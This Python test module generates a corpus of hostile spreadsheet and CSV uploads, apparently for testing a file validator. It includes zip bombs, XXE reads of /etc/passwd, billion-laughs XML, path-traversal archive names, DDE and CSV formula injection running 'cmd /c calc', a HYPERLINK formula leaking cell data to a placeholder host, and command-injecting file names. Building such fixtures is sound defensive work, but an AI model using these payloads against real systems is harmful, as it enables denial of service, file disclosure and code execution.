"""Files that are made to harm their reader, each with the rule that must answer it; made by code, none is stored.

A file is named by what it tries. `Hostile.rules` are the rules of which one must be found; an empty set means that the
file is harmless in itself (its name is the trick) and must be accepted.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from tests.files import COLUMNS, as_lines, csv_text, figures, with_sheet, workbook_bytes

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CSV = csv_text(as_lines(figures()))
WORKBOOK = workbook_bytes(as_lines(figures()))
SPREADSHEET = b"application/vnd.oasis.opendocument.spreadsheet"
NAMESPACES = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for name in ("office", "table", "text", "script", "draw")
)
MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</manifest:manifest>'
)
TEXT_CELL = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b"<!DOCTYPE x [" + b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(10)
)
LAUGHS += b"]>"
MILLION = 1_000_000
Make = Callable[[], bytes]


@dataclass(frozen=True)
class Hostile:
    """One file: how it is made, what it is called, and which rules may answer it."""

    name: str
    make: Make
    rules: frozenset[str]


CORPUS: dict[str, Hostile] = {}


def hostile(title: str, *rules: str, name: str = "figures.xlsx") -> Callable[[Make], Make]:
    """Put the file that a function makes into the corpus."""

    def register(make: Make) -> Make:
        assert title not in CORPUS
        CORPUS[title] = Hostile(name, make, frozenset(rules))
        return make

    return register


def archive(parts: Mapping[str, bytes], *, packed: bool = True) -> bytes:
    """A ZIP archive of some parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return stream.getvalue()


def parts_of(workbook: bytes) -> dict[str, bytes]:
    """The parts of an archive."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as old:
        return {name: old.read(name) for name in old.namelist()}


def with_parts(changes: Mapping[str, bytes], workbook: bytes = WORKBOOK) -> bytes:
    """The workbook with some parts more, or others."""
    return archive(parts_of(workbook) | dict(changes))


def with_cells(rows: bytes) -> bytes:
    """The workbook with more rows at the end of its sheet."""
    return with_sheet(WORKBOOK, lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"))


def with_cell(address: bytes, xml: bytes) -> bytes:
    """The workbook with one cell in another's place."""

    def change(sheet: bytes) -> bytes:
        start = sheet.index(b'<c r="' + address + b'"')
        end = sheet.index(b"</c>", start) + 4
        return sheet[:start] + xml + sheet[end:]

    return with_sheet(WORKBOOK, change)


def table_row(*cells: str) -> str:
    """A row of an OpenDocument spreadsheet."""
    return f"<table:table-row>{''.join(cells)}</table:table-row>"


def ods(body: str = "", *, rows: str | None = None, more: Mapping[str, bytes] | None = None) -> bytes:
    """An OpenDocument spreadsheet of the same figures; `body` stands before the table, `rows` under it."""
    lines = "".join(table_row(*map(TEXT_CELL.format, line)) for line in as_lines(figures()))
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NAMESPACES}><office:body>'
        f'<office:spreadsheet>{body}<table:table table:name="data">{lines}{rows or ""}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = MANIFEST.format("").encode()
    parts = {"mimetype": SPREADSHEET, "content.xml": content.encode(), "META-INF/manifest.xml": manifest}
    return archive(parts | dict(more or {}))


def lines_with(column: str, value: str) -> bytes:
    """The figures as CSV with another value in a column of their first row."""
    return csv_text(as_lines([{**figures()[0], column: value}, *figures()[1:]])).encode()


def sheet_of(data: Iterator[bytes] | list[bytes]) -> bytes:
    """A workbook whose sheet is packed as a stream, so that making it needs no memory."""
    stream = io.BytesIO()
    parts = parts_of(WORKBOOK)
    sheet = parts.pop("xl/worksheets/sheet1.xml")
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name, part in parts.items():
            new.writestr(name, part)
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            out.write(sheet[: sheet.index(b"</sheetData>")])
            for piece in data:
                out.write(piece)
            out.write(b"</sheetData></worksheet>")
    return stream.getvalue()


def with_lying_size(workbook: bytes, part: str, size: int) -> bytes:
    """The archive whose directory gives another size for a part than the part has."""
    data = bytearray(workbook)
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(part.encode()))
    data[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(data)


# Archives ------------------------------------------------------------------------------------------------------------


@hostile("bomb of blanks", "UNSAFE_FILE")
def _() -> bytes:
    return sheet_of([b" " * MILLION] * 100)


@hostile("bomb of rows", "UNSAFE_FILE")
def _() -> bytes:
    return sheet_of([b"<row></row>" * 100_000] * 200)


@hostile("bomb in the shared strings", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 2 * MILLION + b"</sst>"})


@hostile("bomb in a part that nobody needs", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"xl/media/image1.bin": bytes(100 * MILLION)})


@hostile("bomb that says it is small", "UNREADABLE", "UNSAFE_FILE")
def _() -> bytes:
    return with_lying_size(sheet_of([b" " * MILLION] * 100), "xl/worksheets/sheet1.xml", 5_000)


@hostile("part that says it is huge", "UNREADABLE", "UNSAFE_FILE")
def _() -> bytes:
    return with_lying_size(WORKBOOK, "xl/worksheets/sheet1.xml", 0xFFFFFFF0)


@hostile("archive in an archive in an archive", "NOT_A_TABLE")
def _() -> bytes:
    inner = archive({"bomb": bytes(10 * MILLION)})
    for _ in range(5):
        inner = archive({f"{index}.zip": inner for index in range(10)})
    return inner


@hostile("workbook in a workbook", "EMBEDDED_OBJECT")
def _() -> bytes:
    return with_parts({"xl/embeddings/Microsoft_Excel_Sheet1.xlsx": WORKBOOK})


@hostile("fifty thousand parts", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({f"xl/media/{index}": b"" for index in range(20_000)})


@hostile("parts that overlap", "UNSAFE_FILE", "UNREADABLE")
def _() -> bytes:
    """All entries of the directory lead to the same bytes (the way of D. Fifield, 2019)."""
    kernel = zlib.compress(bytes(MILLION), 9)[2:-4]
    sizes = (zlib.crc32(bytes(MILLION)), len(kernel), MILLION)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, *sizes, 1, 0)
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, *sizes, 2, 0, 0, 0, 0, 0, 0)
    entries = b"".join(entry + b"%02d" % number for number in range(90))
    body = local + b"a" + kernel
    return body + entries + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 90, 90, len(entries), len(body), 0)


@hostile("two parts of one name", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"xl/Workbook.xml": b"<workbook/>"})


@hostile("name that leads out of the archive", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"../../../tmp/evil.xml": b"<a/>"})


@hostile("name that begins at the root", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"/etc/cron.d/evil": b"x"})


@hostile("name with a drive", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"C:/Windows/evil.dll": b"x"})


@hostile("name with backslashes", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"xl\\..\\..\\evil.xml": b"<a/>"})


@hostile("name with a NUL byte", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"xl/evil0.xml": b"<a/>"}).replace(b"xl/evil0.xml", b"xl/evil\0.xml")


@hostile("packed in an unusual way", "UNSAFE_FILE")
def _() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as new:
        for name, data in parts_of(WORKBOOK).items():
            new.writestr(name, data)
    return stream.getvalue()


@hostile("workbook cut in half", "TRUNCATED_FILE")
def _() -> bytes:
    return WORKBOOK[: len(WORKBOOK) // 2]


# XML -----------------------------------------------------------------------------------------------------------------


@hostile("entity from a file, in the sheet", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: XXE + xml)


@hostile("entity from a file, in the workbook", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: XXE + xml, part="xl/workbook.xml")


@hostile("entity from a file, in the content types", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: XXE + xml, part="[Content_Types].xml")


@hostile("entity from a file, in a relation", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: XXE + xml, part="xl/_rels/workbook.xml.rels")


@hostile("entity from a file, in the properties", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: XXE + xml, part="docProps/core.xml")


@hostile("entity in a sheet that the workbook does not name", "UNSAFE_FILE")
def _() -> bytes:
    return with_parts({"xl/worksheets/sheet99.xml": XXE + b"<worksheet/>"})


@hostile("document type behind a megabyte of comment", "UNSAFE_FILE")
def _() -> bytes:
    comment = b"<!--" + random.Random(1).randbytes(700_000).hex().encode() + b"-->"
    return with_sheet(WORKBOOK, lambda xml: comment + XXE + xml, part="xl/workbook.xml")


@hostile("document type in UTF-16", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: ("\ufeff" + (XXE + xml).decode()).encode("utf-16-le"))


@hostile("document type in UTF-16 without its mark", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: (XXE + xml).decode().encode("utf-16-be"), part="xl/styles.xml")


@hostile("document type in UTF-7", "UNSAFE_FILE")
def _() -> bytes:
    start = b'<?xml version="1.0" encoding="UTF-7"?>' + XXE.decode().encode("utf-7")
    return with_sheet(WORKBOOK, lambda xml: start + xml, part="xl/workbook.xml")


@hostile("billion laughs", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: LAUGHS + xml)


@hostile("a million nested elements", "UNREADABLE", "UNSAFE_FILE")
def _() -> bytes:
    return with_sheet(WORKBOOK, lambda xml: b"<a>" * MILLION + xml, part="xl/workbook.xml")


@hostile("a million cells that never end", "UNREADABLE", "UNSAFE_FILE", "NO_HEADER", "FAR_CELLS")
def _() -> bytes:
    return sheet_of([random.Random(2).randbytes(10).hex().encode() + b"<c " for _ in range(MILLION)])


@hostile("errors that never end", "UNREADABLE", "UNSAFE_FILE", "NO_HEADER", "FAR_CELLS")
def _() -> bytes:
    return sheet_of([b'<c r="A%d" t="e"><f>' % index for index in range(200_000)])


# Cells ---------------------------------------------------------------------------------------------------------------


@hostile("a cell in the farthest corner", "FAR_CELLS")
def _() -> bytes:
    return with_cells(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile("a cell in the last row", "FAR_CELLS")
def _() -> bytes:
    return with_cells(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>')


@hostile("a cell behind the last row of all", "FAR_CELLS")
def _() -> bytes:
    return with_cells(b'<row r="9999999"><c r="A9999999"><v>1</v></c></row>')


@hostile("far cell in small letters", "FAR_CELLS", "UNREADABLE")
def _() -> bytes:
    return with_cells(b'<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>')


@hostile("far cell under a prefix", "FAR_CELLS")
def _() -> bytes:
    return with_cells(b'<x:row xmlns:x="x" r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>')


@hostile("far row with cells that have no address", "FAR_CELLS")
def _() -> bytes:
    return with_cells(b'<row r="1048576"><c><v>1</v></c></row>')


@hostile("a far cell behind megabytes of one row", "FAR_CELLS", "UNSAFE_FILE")
def _() -> bytes:
    filler = [b'<c r="A9" t="str"><v>%s</v></c>' % random.Random(3).randbytes(20).hex().encode()] * 90_000
    return sheet_of([b'<row r="9">', *filler, b'<c r="XFD1048576"><v>1</v></c></row>'])


@hostile("a million styled blanks", "BLANK_CELLS")
def _() -> bytes:
    return sheet_of([b'<row r="%d"><c r="Z%d" s="1"/></row>' % (row, row) for row in range(10, MILLION)])


@hostile("a million styled blanks in wide rows", "BLANK_CELLS", "FAR_CELLS")
def _() -> bytes:
    letters = [f"{a}{b}" for a in "ABCDEFGHIJKLMNOPQRSTUVWXYZ" for b in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    rows = ("".join(f'<c r="{name}{row}" s="1"/>' for name in letters) for row in range(10, 1500))
    return sheet_of([f'<row r="{row}">{cells}</row>'.encode() for row, cells in enumerate(rows, start=10)])


@hostile("seventeen thousand million cells of a spreadsheet in one", "FAR_CELLS", name="figures.ods")
def _() -> bytes:
    cell = TEXT_CELL.format("x").replace("cell ", 'cell table:number-columns-repeated="16384" ', 1)
    return ods(rows=f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>')


@hostile("far cell of a spreadsheet", "FAR_CELLS", name="figures.ods")
def _() -> bytes:
    return ods(
        rows='<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
        '<table:table-row><table:table-cell table:number-columns-repeated="16000"/>'
        '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>'
    )


# More than a table ---------------------------------------------------------------------------------------------------


@hostile("macros", "MACROS", name="figures.xlsm")
def _() -> bytes:
    return with_parts({"xl/vbaProject.bin": OLE + bytes(500)})


@hostile("macros under a harmless name", "MACROS")
def _() -> bytes:
    return with_parts({"xl/vbaProject.bin": OLE + bytes(500)})


@hostile("macros by their content type alone", "MACROS")
def _() -> bytes:
    old, new = b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.macroEnabled.main+xml"
    plain = b"application/vnd.openxmlformats-officedocument." + old
    with_macros = b"application/vnd.ms-excel.sheet.macroEnabled." + new
    return with_sheet(WORKBOOK, lambda xml: xml.replace(plain, with_macros), part="[Content_Types].xml")


@hostile("macros of the nineties", "MACROS")
def _() -> bytes:
    return with_parts({"xl/macrosheets/sheet1.xml": b"<macrosheet/>"})


@hostile("macros of a spreadsheet", "MACROS", name="figures.ods")
def _() -> bytes:
    return ods(more={"Basic/Standard/Module1.xml": b"<module/>"})


@hostile("program that a spreadsheet starts by itself", "MACROS", name="figures.ods")
def _() -> bytes:
    return ods('<script:event-listener script:event-name="dom:load" script:language="ooo:script"/>')


@hostile("link to another workbook", "EXTERNAL_LINKS")
def _() -> bytes:
    return with_parts({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


@hostile("link to a server, in a relation", "EXTERNAL_LINKS")
def _() -> bytes:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file://server/share/x.png" TargetMode="External"/></Relationships>'
    )
    return with_parts({"xl/worksheets/_rels/sheet1.xml.rels": relation})


@hostile("connection to a database", "EXTERNAL_LINKS")
def _() -> bytes:
    return with_parts({"xl/connections.xml": b'<connections><connection id="1" name="x"/></connections>'})


@hostile("dynamic data exchange", "EXTERNAL_LINKS")
def _() -> bytes:
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return with_parts({"xl/externalLinks/externalLink1.xml": dde})


@hostile("dynamic data exchange of a spreadsheet", "EXTERNAL_LINKS", name="figures.ods")
def _() -> bytes:
    return ods('<office:dde-source office:dde-application="cmd" office:dde-item="A1" office:dde-topic="/c calc"/>')


@hostile("table from another file", "EXTERNAL_LINKS", name="figures.ods")
def _() -> bytes:
    return ods('<table:table table:name="x"><table:table-source table:filter-name="calc8"/></table:table>')


@hostile("embedded object", "EMBEDDED_OBJECT")
def _() -> bytes:
    return with_parts({"xl/embeddings/oleObject1.bin": OLE + bytes(500)})


@hostile("control that runs", "EMBEDDED_OBJECT")
def _() -> bytes:
    return with_parts({"xl/activeX/activeX1.xml": b"<ocx/>"})


@hostile("embedded object of a spreadsheet", "EMBEDDED_OBJECT", name="figures.ods")
def _() -> bytes:
    return ods(more={"Object 1/content.xml": b"<a/>"})


# Locked, or something else -------------------------------------------------------------------------------------------


@hostile("workbook with a password", "PASSWORD")
def _() -> bytes:
    return OLE + bytes(3000) + "EncryptedPackage".encode("utf-16-le") + bytes(3000)


@hostile("spreadsheet with a password", "PASSWORD", name="figures.ods")
def _() -> bytes:
    entry = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    return ods(more={"META-INF/manifest.xml": MANIFEST.format(entry).encode()})


@hostile("archive with a password", "PASSWORD")
def _() -> bytes:
    data = bytearray(WORKBOOK)
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


@hostile("old workbook", "OLD_EXCEL", name="figures.xls")
def _() -> bytes:
    return OLE + bytes(5000)


@hostile("old workbook under a new name", "OLD_EXCEL")
def _() -> bytes:
    return OLE + bytes(5000)


@hostile("binary workbook", "NOT_A_TABLE")
def _() -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01"})


@hostile("web page called a workbook", "NOT_A_TABLE", name="figures.xls")
def _() -> bytes:
    cells = "".join(f"<td>{name}</td>" for name in COLUMNS)
    return f"<html><script>alert(1)</script><table><tr>{cells}</tr></table></html>".encode()


@hostile("XML called a workbook", "NOT_A_TABLE", name="figures.xls")
def _() -> bytes:
    return b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'


@hostile("PDF called a table", "NOT_A_TABLE", name="figures.csv")
def _() -> bytes:
    return b"%PDF-1.7\n" + CSV.encode()


@hostile("PDF and archive in one", "NOT_A_TABLE")
def _() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + WORKBOOK


@hostile("program called a table", "NOT_A_TABLE", name="figures.csv")
def _() -> bytes:
    return b"MZ\x90\x00" + bytes(500)


@hostile("archive behind a table", "NOT_A_TABLE", name="figures.csv")
def _() -> bytes:
    return CSV.encode() + WORKBOOK


@hostile("archive behind an archive", "UNSAFE_FILE")
def _() -> bytes:
    return WORKBOOK + WORKBOOK


@hostile("table behind an archive", "UNSAFE_FILE", "TRUNCATED_FILE")
def _() -> bytes:
    return WORKBOOK + CSV.encode()


@hostile("presentation", "NOT_A_TABLE")
def _() -> bytes:
    return archive({"ppt/presentation.xml": b"<a/>"})


@hostile("text document of OpenDocument", "NOT_A_TABLE", name="figures.ods")
def _() -> bytes:
    return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"})


# Text ----------------------------------------------------------------------------------------------------------------


@hostile("NUL bytes in a table", "NOT_A_TABLE", name="figures.csv")
def _() -> bytes:
    return CSV.encode().replace(b"LU", b"L\0U")


@hostile("nothing but NUL bytes", "NOT_A_TABLE", name="figures.csv")
def _() -> bytes:
    return bytes(50 * MILLION)


@hostile("control characters", "NOT_A_TABLE", name="figures.csv")
def _() -> bytes:
    return CSV.encode().replace(b"LU", b"\x1b[2JLU")


@hostile("one line without end", "ENDLESS_LINE", name="figures.csv")
def _() -> bytes:
    return CSV.encode() + b"x" * 100 * MILLION


@hostile("one quoted text without end", "ENDLESS_LINE", name="figures.csv")
def _() -> bytes:
    return CSV.encode() + b'"' + b"y" * 50 * MILLION


@hostile("a million columns", "ENDLESS_LINE", name="figures.csv")
def _() -> bytes:
    return b";".join(b"c%d" % index for index in range(MILLION)) + b"\r\n" + CSV.encode()


@hostile("a hundred thousand empty columns", "NO_HEADER", "ENDLESS_LINE", name="figures.csv")
def _() -> bytes:
    return (";".join(COLUMNS) + ";" * 99_000 + "\r\n").encode() * 5


@hostile("a hundred thousand columns in a row", "EXTRA_CELLS", name="figures.csv")
def _() -> bytes:
    return CSV.encode() + b"RSM_02;LU;2025" + b";x" * 90_000 + b"\r\n"


@hostile("deep quotes", "NO_HEADER", "ENDLESS_LINE", name="figures.csv")
def _() -> bytes:
    return (b'"' * 150_001 + b"\n") * 20


@hostile("a quote opened in every row", "UNCLOSED_QUOTE", name="figures.csv")
def _() -> bytes:
    header, row = CSV.splitlines()[:2]
    return "\r\n".join([header, *[row.replace("RSM_02", '"RSM_02')] * 3_000, ""]).encode()


@hostile("a quote that swallows the rest", "UNCLOSED_QUOTE", name="figures.csv")
def _() -> bytes:
    header, row = CSV.splitlines()[:2]
    return "\r\n".join([header, row.replace("LU", '"LU'), *[row] * 3_000, ""]).encode()


@hostile("half a character in every encoding", "NOT_A_TABLE", "NO_HEADER", name="figures.csv")
def _() -> bytes:
    return b"\xff\xfe\x00\xd8" * 5_000


# Formulas ------------------------------------------------------------------------------------------------------------


@hostile("formula that starts a program, in a code", "FORMULA_IN_CODE", name="figures.csv")
def _() -> bytes:
    return lines_with("SITE", "=cmd|' /C calc'!A0")


@hostile("formula with an at sign, in a code", "FORMULA_IN_CODE", name="figures.csv")
def _() -> bytes:
    return lines_with("SEX", "@SUM(1+1)*cmd|' /C calc'!A0")


@hostile("formula with a plus, in a code", "FORMULA_IN_CODE", name="figures.csv")
def _() -> bytes:
    return lines_with("AGE", "+1+cmd|' /C calc'!A0")


@hostile("formula with a minus, in a code", "FORMULA_IN_CODE", name="figures.csv")
def _() -> bytes:
    return lines_with("REF_AREA", "-1+cmd|' /C calc'!A0")


@hostile("formula behind a tab, in a code", "FORMULA_IN_CODE", name="figures.csv")
def _() -> bytes:
    return lines_with("NUTS2", "\t=1+1")


@hostile("formula in a code of a workbook", "FORMULA_IN_CODE")
def _() -> bytes:
    return with_cell(b"B2", b'<c r="B2" t="str"><f>HYPERLINK("http://x/?"&amp;A1,"LU")</f><v>LU</v></c>')


@hostile("formula in a code of a spreadsheet", "FORMULA_IN_CODE", name="figures.ods")
def _() -> bytes:
    formula = 'cell table:formula="of:=WEBSERVICE(&quot;x&quot;)" '
    code = TEXT_CELL.format("LU").replace("cell ", formula, 1)
    return ods(rows=table_row(TEXT_CELL.format("RSM_02"), code, TEXT_CELL.format("2025")))


# Names of files ------------------------------------------------------------------------------------------------------


@hostile("name that is an option", name="--version.csv")
def _() -> bytes:
    return CSV.encode()


@hostile("name that is a command", name="$(touch evil); `touch evil`.csv")
def _() -> bytes:
    return CSV.encode()


@hostile("name with a line end", name="figures\n.csv")
def _() -> bytes:
    return CSV.encode()


@hostile("name that leads elsewhere", name="..%2f..%2fetc%2fpasswd.csv")
def _() -> bytes:
    return CSV.encode()


@hostile("name that is markup", name="<script>alert(1)<%2fscript>.csv")
def _() -> bytes:
    return CSV.encode()


@hostile("name that hides its ending", name="figures\u202evsc.exe")
def _() -> bytes:
    return CSV.encode()
